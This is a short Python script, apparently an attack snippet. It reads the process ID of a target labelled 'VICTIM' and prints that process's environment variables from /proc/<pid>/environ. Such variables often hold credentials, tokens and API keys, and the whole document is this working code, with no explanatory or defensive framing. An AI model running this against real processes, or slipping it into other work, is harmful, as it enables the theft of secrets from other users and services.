import os

print(open(f"/proc/{os.environ['VICTIM']}/environ").read())
